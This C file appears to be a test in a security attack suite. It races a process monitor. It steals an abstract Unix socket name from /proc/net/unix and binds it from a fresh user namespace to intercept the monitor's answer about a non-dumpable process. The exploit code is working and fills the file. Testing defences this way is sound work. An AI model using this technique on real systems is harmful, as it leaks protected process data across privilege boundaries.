// A monitor asks another one about its process by the name of a socket.  Here the one that is asked cannot answer yet (it waits
// for a vfork child), the asker is killed, and a process in a user namespace of its own, where it has all capabilities,
// takes the socket's name.  What it hears about a process that is not dumpable is not for it.
#include "attack.h"
#include <sys/socket.h>
#include <sys/un.h>

static int unused_user_namespace(void) { return unshare(CLONE_NEWUSER) == 0; }

// The name of an abstract socket that the kernel has chosen and that nobody of ours has made, or 0.
static int stolen(char name[6]) {
    char line[256];
    FILE *f = fopen("/proc/net/unix", "r");
    int found = 0;
    while (f && !found && fgets(line, sizeof line, f)) {
        char *at = strrchr(line, '@');
        if (at && strlen(at) == 7 && strspn(at + 1, "0123456789abcdef") == 5) {
            memcpy(name, at + 1, 5);
            found = 1;
        }
    }
    if (f)
        fclose(f);
    return found;
}

// Waits for a vfork child: until it ends nobody gets an answer.
static void victim(int go) {
    char byte;
    prctl(PR_SET_DUMPABLE, 0);
    if (vfork() == 0) {
        if (read(go, &byte, 1) < 0)
            _exit(1);
        _exit(0);
    }
    pause();
}

// Whether what was said to the listener is more than a refusal.
static int heard(int listener) {
    struct {
        uint64_t cookie;
        int32_t status;
        uint32_t mode;
    } answer = {0, -1, 0};
    char control[CMSG_SPACE(sizeof(int))];
    struct iovec v = {&answer, sizeof answer};
    struct msghdr m = {
        .msg_iov = &v, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct timeval patience = {.tv_sec = 1};
    setsockopt(listener, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    int peer = accept(listener, NULL, NULL);
    if (peer < 0)
        return 0;
    setsockopt(peer, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    return recvmsg(peer, &m, 0) == sizeof answer && answer.status == 0 && m.msg_controllen > 0;
}

static void one(void *argument) {
    (void)argument;
    int go[2];
    char path[64], name[6] = "";
    if (pipe(go) < 0)
        attack_broken("pipe");
    pid_t v = fork();
    if (v == 0)
        victim(go[0]);
    usleep(100000);
    pid_t asker = fork();
    if (asker == 0) {
        snprintf(path, sizeof path, "/proc/%d/cwd", v);
        for (;;)
            if (open(path, O_PATH) >= 0)
                _exit(3); // it may be looked at: then this shows nothing
    }
    for (int i = 0; i < 200 && !stolen(name); i++)
        usleep(2000);
    usleep(20000); // it has been asked by now
    kill(asker, SIGKILL);
    waitpid(asker, NULL, 0);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    memcpy(a.sun_path + 1, name, 5);
    int result = 0, listener = socket(AF_UNIX, SOCK_SEQPACKET, 0);
    if (name[0] && unused_user_namespace() && bind(listener, (struct sockaddr *)&a, 8) == 0 &&
        listen(listener, 4) == 0) {
        if (write(go[1], "x", 1) == 1)
            result = heard(listener);
    }
    kill(v, SIGKILL);
    _exit(result);
}

int main(void) {
    do {
        int status = attack_child(one, NULL);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 1)
            attack_won("a process that is not dumpable was shown to one in another user namespace");
    } while (!attack_over());
    attack_lost();
}
